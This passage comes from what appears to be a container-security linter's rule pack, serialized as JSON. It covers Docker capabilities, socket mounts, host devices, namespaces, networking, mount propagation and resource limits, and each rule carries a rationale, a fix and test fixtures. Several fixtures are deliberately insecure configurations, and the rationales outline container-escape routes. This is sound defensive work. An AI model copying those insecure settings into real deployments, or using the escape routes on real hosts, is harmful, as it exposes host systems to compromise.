security_opt:\\n      - no-new-privileges:true\\n      - seccomp=./seccomp/app.json\\n      - apparmor=docker-default\\n      - label=type:svirt_apache_t\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  browser-tests:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: mcr.microsoft.com/playwright:v1.48.0-noble\\n      options: --security-opt seccomp=unconfined --ipc private\\n    steps:\\n      - run: npx playwright test\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm --security-opt apparmor:unconfined \\\\\\n            --security-opt label=disable moby/buildkit:v0.16.0 --version\\n","expect":[{"line":7,"column":11},{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --security-opt no-new-privileges --security-opt seccomp=${{ inputs.profile }}\\n    steps:\\n      - run: docker run --rm --security-opt seccomp=/etc/docker/seccomp.json alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-confinement-disabled.yaml"},{"id":"container-dangerous-capability","pack":"docker","title":"Container adds a dangerous Linux capability","severity":"high","subject":"container","schema":{"properties":{"cap_add":{"items":{"not":{"enum":{"$param":"dangerousCapabilities"}}}}}},"message":"{{name}} adds the {{value}} capability, which lets a compromised process reach past the container into the host kernel. Remove it, or replace it with the narrow capability the workload actually needs after `cap_drop: [ALL]`.","rationale":"Docker starts containers with a short list of capabilities and withholds the ones that act on the whole machine. `ALL` and `SYS_ADMIN` come close to privileged mode (mounting filesystems, escaping through cgroups); `SYS_MODULE` loads kernel code; `SYS_PTRACE` reads and alters other processes; `DAC_READ_SEARCH` opens any host file by handle (the \\"shocker\\" escape); `SYS_RAWIO`, `SYS_BOOT` and `SYS_TIME` touch devices, reboots and the host clock; `NET_ADMIN` reconfigures interfaces, routes and firewall rules; `BPF` and `PERFMON` load and observe kernel programs; `MAC_ADMIN`/`MAC_OVERRIDE` change or bypass AppArmor and SELinux; `SYSLOG` and `LINUX_IMMUTABLE` affect host logs and file flags. The CIS Docker Benchmark and the OWASP cheat sheet both ask to add only the capabilities a workload needs; the list is the `dangerousCapabilities` parameter.","remediation":"Drop every capability and add back only the specific one the process needs:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n```\\n\\nFor a workflow\'s `options:` or a `docker run`, write `--cap-drop ALL --cap-add NET_BIND_SERVICE`.\\nA VPN or network tool that truly needs `NET_ADMIN` belongs on a dedicated host, not next to\\napplication services.","references":[{"framework":"cis-docker","id":"1.6.0:5.4"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"},{"framework":"url","url":"https://docs.docker.com/engine/security/#linux-kernel-capabilities"}],"params":{"dangerousCapabilities":["ALL","SYS_ADMIN","NET_ADMIN","SYS_MODULE","SYS_PTRACE","SYS_RAWIO","SYS_BOOT","SYS_TIME","DAC_READ_SEARCH","BPF","PERFMON","MAC_ADMIN","MAC_OVERRIDE","SYSLOG","LINUX_IMMUTABLE"]},"paramSchemas":{"dangerousCapabilities":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Capabilities that act on the whole host. Upper case, without the CAP_ prefix: the container subject normalizes `cap_sys_admin`, `CAP_SYS_ADMIN` and `SYS_ADMIN` to `SYS_ADMIN`."}},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    cap_add:\\n      - NET_BIND_SERVICE\\n      - CAP_sys_admin\\n      - net_admin\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":22},{"line":7,"column":9}]},{"file":"compose.yaml","content":"x-caps: &caps\\n  cap_add: [ALL]\\nservices:\\n  tool:\\n    <<: *caps\\n    image: alpine:3.20\\n","expect":[{"line":2,"column":13}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE, CHOWN, SETUID, SETGID]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: golang:1.23\\n      options: --cap-add=SYS_PTRACE --cap-add CAP_NET_RAW\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --cap-add SYS_ADMIN --device /dev/fuse\\n    steps:\\n      - run: go test ./...\\n","expect":[{"line":7,"column":7},{"line":11,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: |\\n          docker run --rm --cap-add ALL alpine:3.20 true\\n          docker run --rm --cap-drop ALL --cap-add NET_BIND_SERVICE nginx:1.27\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":57}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        options: --cap-drop ALL --cap-add NET_BIND_SERVICE --cap-add ${{ matrix.cap }}\\n    steps:\\n      - run: docker run --rm --cap-add CHOWN alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-dangerous-capability.yaml"},{"id":"container-default-bridge-network","pack":"docker","title":"Container uses Docker\'s default bridge network","severity":"low","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"bridge"}}}},"message":"{{name}} is attached to the default `bridge` network (docker0), where every container can reach every other container started the same way, and names do not resolve. Remove `network_mode: bridge` so Compose puts it on the project\'s own network, or attach it to a user-defined network.","rationale":"The default bridge network is shared by every container started without a network: they can all talk to each other on any port, with no isolation between unrelated applications, and the network offers no DNS between containers (which encourages the deprecated `--link`). User-defined networks isolate groups of containers and resolve names. The CIS Docker Benchmark (5.30) asks that docker0 not be used; the OWASP cheat sheet (rule 5) asks to isolate containers with networks.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n```\\n\\nFor `docker run`, create a network once (`docker network create app`) and pass `--network app`.","references":[{"framework":"cis-docker","id":"1.6.0:5.30"},{"framework":"owasp-docker","id":"RULE #5"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/bridge/#differences-between-user-defined-bridges-and-the-default-bridge"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    network_mode: bridge\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":25}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    networks: [backend]\\nnetworks:\\n  backend: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --network bridge\\n    steps:\\n      - run: |\\n          docker run -d --net=bridge nginx:1.27\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker network create e2e\\n          docker run -d --network e2e nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-default-bridge-network.yaml"},{"id":"container-docker-socket","pack":"docker","title":"Docker socket mounted into a container","severity":"critical","subject":"container","schema":{"properties":{"use_api_socket":{"not":{"const":true}},"volumes":{"items":{"not":{"required":["source"],"properties":{"source":{"pattern":{"$param":"socketPaths"}}}}}}}},"message":"{{name}} mounts the Docker socket: any process in it can start a privileged container and so owns the host, and `:ro` does not prevent that. Remove the mount; if the service must talk to Docker, put an authorizing proxy in front of a TLS-protected daemon.","rationale":"The Docker daemon runs as root and its socket is its whole API. A container that can reach the socket can create a new container that is privileged and mounts the host\'s root filesystem, which is root on the host. Mounting the socket read-only changes nothing: API calls are writes to the socket whatever the mount mode. Compose\'s `use_api_socket: true` grants the same access.","remediation":"Remove the socket mount. If the service genuinely manages containers (a CI runner, a reverse\\nproxy that reads labels), run it against a socket proxy that allows only the API calls it needs,\\nor a rootless daemon, and never in a service that handles untrusted input.\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: traefik:v3.1\\n    # volumes:\\n    #   - /var/run/docker.sock:/var/run/docker.sock   # removed\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.32"},{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/#docker-daemon-attack-surface"}],"params":{"socketPaths":"^(/var)?/run/docker\\\\.sock/?$"},"paramSchemas":{"socketPaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is the Docker daemon socket."}},"tests":[{"file":"compose.yaml","content":"services:\\n  traefik:\\n    image: traefik:v3.1\\n    volumes:\\n      - ./traefik.yml:/etc/traefik/traefik.yml:ro\\n      - /var/run/docker.sock:/var/run/docker.sock:ro\\n","expect":[{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: portainer/agent:2.21\\n    volumes:\\n      - type: bind\\n        source: /run/docker.sock\\n        target: /var/run/docker.sock\\n","expect":[{"line":5,"column":9}]},{"file":"compose.yaml","content":"services:\\n  builder:\\n    image: docker:27-cli\\n    use_api_socket: true\\n","expect":[{"line":4,"column":5}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./html:/usr/share/nginx/html:ro\\n      - cache:/var/cache/nginx\\nvolumes:\\n  cache: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: docker:27-cli\\n      options: -v /var/run/docker.sock:/var/run/docker.sock\\n    steps:\\n      - run: docker ps\\n","expect":[{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n    steps:\\n      - run: npm ci\\n","expect":[]}],"source":"policies/docker/container-docker-socket.yaml"},{"id":"container-host-device","pack":"docker","title":"Host device exposed to a container","severity":"medium","subject":"container","schema":{"properties":{"devices":{"items":false}}},"message":"{{name}} is given the host device `{{value}}`, so processes in it talk to that hardware or kernel interface directly, outside the container\'s isolation. Remove the device unless the service truly drives it, and then pass only that one device with the narrowest permissions (`:r` or `:rw`, not `:rwm`).","rationale":"A device node is a direct line into a kernel driver. Block devices expose the host\'s disks (mount `/dev/sda1` and read or change the host\'s files), `/dev/mem` and `/dev/kmsg` expose kernel memory and logs, and even a FUSE or GPU device widens the kernel attack surface that a compromised process can reach. The CIS Docker Benchmark (5.18) asks that host devices not be exposed to containers directly, and that when one must be, its permissions be limited.","remediation":"Remove the device. If the workload genuinely needs one (a GPU, a serial adapter), pass exactly\\nthat device, read-only where possible, and keep the service on a dedicated host:\\n\\n```yaml\\nservices:\\n  reader:\\n    image: ghcr.io/example/serial-reader:1.0.0\\n    devices:\\n      - \\"/dev/ttyUSB0:/dev/ttyUSB0:r\\"   # this one device, no mknod\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.18"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#device"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: ghcr.io/example/backup:3.1.0\\n    devices:\\n      - /dev/sda:/dev/xvda:rwm\\n      - source: /dev/fuse\\n        target: /dev/fuse\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":31},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    devices: []\\n    volumes:\\n      - ./dev:/srv/dev\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --device /dev/fuse\\n    steps:\\n      - run: |\\n          docker run --rm --device=/dev/kvm ghcr.io/example/emulator:2.0.0 boot\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2 --device ${{ matrix.device }}\\n    steps:\\n      - run: docker run --rm alpine:3.20 ls /dev\\n","expect":[]}],"source":"policies/docker/container-host-device.yaml"},{"id":"container-host-namespace","pack":"docker","title":"Container shares the host\'s PID, IPC, UTS or user namespace","severity":"high","subject":"container","schema":{"properties":{"pid":{"not":{"const":"host"}},"ipc":{"not":{"const":"host"}},"uts":{"not":{"const":"host"}},"userns_mode":{"not":{"const":"host"}}}},"message":"{{name}} sets `{{key}}: host`, so it shares that namespace with the host and can see or affect what runs outside the container. Remove the setting so the container keeps its own namespace.","rationale":"Namespaces are what make a container a container. Sharing the host\'s PID namespace lets its processes list, signal and (with `SYS_PTRACE`) inspect every process on the host, including their environment and secrets; sharing IPC exposes the host\'s shared memory segments and semaphores; sharing UTS lets it change the host\'s hostname; and `userns_mode: host` switches off user-namespace remapping, so root in the container is root on the host again. The CIS Docker Benchmark asks that none of these namespaces be shared with the host.","remediation":"Remove the setting so that Docker gives the container its own namespace. To share a namespace\\nbetween cooperating containers, share it with that container rather than with the host:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  debugger:\\n    image: ghcr.io/example/debug-tools:2.0.1\\n    pid: \\"service:app\\"   # not \\"host\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--pid host`, `--ipc host`, `--uts host`\\nand `--userns host`.","references":[{"framework":"cis-docker","id":"1.6.0:5.16"},{"framework":"cis-docker","id":"1.6.0:5.17"},{"framework":"cis-docker","id":"1.6.0:5.21"},{"framework":"cis-docker","id":"1.6.0:5.31"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pid"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: datadog/agent:7.57.0\\n    pid: host\\n    ipc: host\\n    uts: host\\n    userns_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":14},{"line":5,"column":5},{"line":6,"column":5},{"line":7,"column":5,"endLine":7,"endColumn":22}]},{"file":"compose.yaml","content":"x-debug: &debug\\n  pid: \\"host\\"\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  tools:\\n    <<: *debug\\n    image: ghcr.io/example/debug-tools:2.0.1\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ipc: shareable\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    ipc: \\"service:app\\"\\n    pid: \\"service:app\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ubuntu:24.04\\n      options: --pid=host --ipc host\\n    steps:\\n      - run: ps aux\\n","expect":[{"line":7,"column":7},{"line":7,"column":7}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          set -eu\\n          docker run --rm \\\\\\n            --userns=host \\\\\\n            ubuntu:24.04 id\\n","expect":[{"line":8,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --pid private --hostname app\\n    steps:\\n      - run: docker run --rm --pid container:app ubuntu:24.04 ps\\n","expect":[]}],"source":"policies/docker/container-host-namespace.yaml"},{"id":"container-host-network","pack":"docker","title":"Container uses the host\'s network namespace","severity":"high","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"host"}}}},"message":"{{name}} uses the host\'s network stack instead of its own: it can reach every service bound to the host\'s localhost and every host interface, and anything it listens on is exposed on the host directly. Remove the host network mode and publish only the ports it serves, e.g. `ports: [\\"127.0.0.1:8080:8080\\"]`.","rationale":"With the host network mode the container gets no network namespace of its own. It sees and can use all of the host\'s interfaces, can connect to daemons that listen only on the host\'s loopback address (metadata endpoints, databases, the Docker API on TCP), can sniff traffic with `NET_RAW`, and bypasses the isolation and firewall rules Docker sets up for bridge networks. The CIS Docker Benchmark asks that the host\'s network namespace never be shared with a container.","remediation":"Drop the host network mode, let the container use its own (user-defined bridge) network, and\\npublish only the ports that must be reachable, bound to a specific address:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    # network_mode: host   # removed\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--network host` / `--net=host` and use\\n`-p 127.0.0.1:8080:8080` instead.","references":[{"framework":"cis-docker","id":"1.6.0:5.10"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/host/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  metrics:\\n    image: prom/node-exporter:v1.8.2\\n    network_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":23}]},{"file":"compose.yaml","content":"x-hostnet: &hostnet\\n  network_mode: \\"host\\"\\nservices:\\n  sniffer:\\n    <<: *hostnet\\n    image: nicolaka/netshoot:v0.13\\n","expect":[{"line":2,"column":3}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    networks: [front]\\n  sidecar:\\n    image: envoyproxy/envoy:v1.31.0\\n    network_mode: \\"service:web\\"\\nnetworks:\\n  front: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --net=host --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - name: Start the app\\n        run: |\\n          docker network create e2e\\n          docker run -d --name app --network host ghcr.io/example/app:1.4.2\\n","expect":[{"line":9,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --network ${{ matrix.network }}\\n    steps:\\n      - run: docker run -d --network e2e -p 127.0.0.1:8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-host-network.yaml"},{"id":"container-mount-propagation-shared","pack":"docker","title":"Mount uses shared propagation","severity":"medium","subject":"container","schema":{"properties":{"volumes":{"items":{"properties":{"propagation":{"not":{"enum":{"$param":"sharedModes"}}}}}}}},"message":"{{name}} has a mount with `{{value}}` propagation, so mounts made inside the container appear on the host (and in other containers sharing it) and the other way round. Remove the propagation option (the default is `rprivate`) or use `rslave` if the container only needs to see host mounts.","rationale":"With shared propagation a mount made inside the container is propagated to the host\'s mount namespace and to every other container that shares the mount, which lets a container change what the host sees under that path. The CIS Docker Benchmark (5.20) asks that mount propagation not be set to shared. `rslave` gives the container the host\'s new mounts without sending its own back.","remediation":"```yaml\\nservices:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - type: bind\\n        source: /mnt/data\\n        target: /data\\n        bind:\\n          propagation: rslave   # not shared / rshared\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.20"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/#configure-bind-propagation"}],"params":{"sharedModes":["shared","rshared"]},"paramSchemas":{"sharedModes":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Bind propagation modes that let mounts made inside the container appear on the host."}},"tests":[{"file":"compose.yaml","content":"services:\\n  csi:\\n    image: ghcr.io/example/csi-driver:1.2.0\\n    volumes:\\n      - /mnt/data:/data:rshared\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: shared\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":32},{"line":6,"column":9}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - /mnt/data:/data:ro,rslave\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: rprivate\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      options: --mount type=bind,source=/mnt,target=/mnt,bind-propagation=rshared\\n    steps:\\n      - run: |\\n          docker run --rm -v /srv:/srv:shared alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      volumes:\\n        - /mnt:/mnt:rslave\\n    steps:\\n      - run: docker run --rm -v /srv:/srv:ro alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-mount-propagation-shared.yaml"},{"id":"container-no-cpu-limit","pack":"docker","title":"Compose service has no CPU limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["cpus"]},"message":"{{name}} has no CPU limit, so a busy loop or a flood of requests in it can starve every other container on the host. Set `cpus:` (or `deploy.resources.limits.cpus`), e.g. `cpus: 1.0`.","rationale":"By default every container competes for all of the host\'s CPUs with equal weight. A service that is attacked or stuck in a loop slows everything else down, including health checks and the Docker daemon. A limit keeps one service\'s problem its own. The CIS Docker Benchmark (5.12) and the OWASP cheat sheet (rule 7) ask that CPU use be limited or prioritized. Informational by default: on a host that runs one service, a limit matters less.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.0        # or deploy.resources.limits.cpus: \\"1.0\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.12"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/#cpu"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    mem_limit: 512m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 0.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          cpus: \\"2\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-cpu-limit.yaml"},{"id":"container-no-healthcheck","pack":"docker","title":"Compose service has no health check","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"{{name}} has no working health check, so Docker reports it as running while it hangs or serves errors, and `depends_on: condition: service_healthy` cannot wait for it. Add a `healthcheck:` (or a HEALTHCHECK in its Dockerfile) that probes the service, e.g. `test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]`.","rationale":"A container whose main process is alive is not necessarily a service that works. A health check lets Docker, Compose and orchestrators notice a deadlocked or degraded container, restart it or keep traffic and dependants away from it, and it turns silent failures (including some denial of service) into visible ones. The CIS Docker Benchmark asks for a HEALTHCHECK in images (4.6) and for container health to be checked at run time (5.27). Informational by default: many services are watched from outside instead.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    healthcheck:\\n      test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]\\n      interval: 30s\\n      timeout: 5s\\n      retries: 3\\n```\\n\\nImages without a shell or wget can ship a small probe binary, or define the HEALTHCHECK in the\\nDockerfile.","references":[{"framework":"cis-docker","id":"1.6.0:5.27"},{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      disable: true\\n  cache:\\n    image: redis:7.4\\n    healthcheck:\\n      test: [\\"NONE\\"]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":7,"column":7,"endLine":7,"endColumn":20},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      test: [\\"CMD-SHELL\\", \\"pg_isready -U postgres\\"]\\n      interval: 10s\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --no-healthcheck\\n    steps:\\n      - run: docker run -d nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-no-healthcheck.yaml"},{"id":"container-no-memory-limit","pack":"docker","title":"Compose service has no memory limit","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["mem_limit"]},"message":"{{name}} has no memory limit, so a leak or a crafted request can exhaust the host\'s memory and take every other container down with it. Set `mem_limit:` (or `deploy.resources.limits.memory`) to what the service needs, e.g. `mem_limit: 512m`.","rationale":"By default a container may use all of the host\'s memory. One misbehaving or attacked service then pushes the host into swapping or wakes the kernel\'s OOM killer, which may kill a different, more important process. A limit confines the damage to the service that caused it and makes capacity planning possible. The CIS Docker Benchmark (5.11) and the OWASP cheat sheet (rule 7) ask that every container\'s memory be limited.","remediation":"Set a limit with headroom above the service\'s normal use:\\n\\n```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n          cpus: \\"1.0\\"\\n          pids: 200\\n```\\n\\n`mem_limit: 512m`, `cpus: 1.0` and `pids_limit: 200` at the service level are equivalent.","references":[{"framework":"cis-docker","id":"1.6.0:5.11"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    mem_limit: 256m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-memory-limit.yaml"},{"id":"container-no-new-privileges","pack":"docker","title":"Container may gain privileges through setuid binaries (no-new-privileges not set)","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"security_opt":{"not":{"items":{"not":{"pattern":{"$param":"enabled"}}}}}}},"message":"{{name}} does not set `no-new-privileges`, so a setuid or setgid program inside it can still raise a process\'s privileges. Add `security_opt: [\\"no-new-privileges:true\\"]`.","rationale":"The kernel\'s `no_new_privs` bit, which Docker sets with `no-new-privileges`, makes `execve` unable to grant more privileges than the caller had: setuid and setgid binaries and file capabilities stop working as an escalation path from an application user to root inside the container. It costs nothing for almost every service. The CIS Docker Benchmark and the OWASP cheat sheet recommend it for every container; this rule asks it of Compose services, the long-running ones.","remediation":"Add the option to the service (or to a shared `x-` block merged into every service):\\n\\n```yaml\\nx-hardening: &hardening\\n  security_opt:\\n    - no-new-privileges:true\\nservices:\\n  app:\\n    <<: *hardening\\n    image: ghcr.io/example/app:1.4.2\\n```\\n\\nThe Docker daemon can also apply it to every container with `\\"no-new-privileges\\": true` in\\n`daemon.json`, but the Compose file is where a reviewer can see it.","references":[{"framework":"cis-docker","id":"1.6.0:5.26"},{"framework":"owasp-docker","id":"RULE #4"}],"params":{"enabled":"^no-new-privileges=(1|t|T|true|TRUE|True)$"},"paramSchemas":{"enabled":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `security_opt` entry that turns no-new-privileges on. Docker reads the value with Go\'s strconv.ParseBool; a bare `no-new-privileges` is normalized to `no-new-privileges=true` by the container subject."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt:\\n      - apparmor=docker-default\\n      - no-new-privileges:false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":17}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  security_opt: 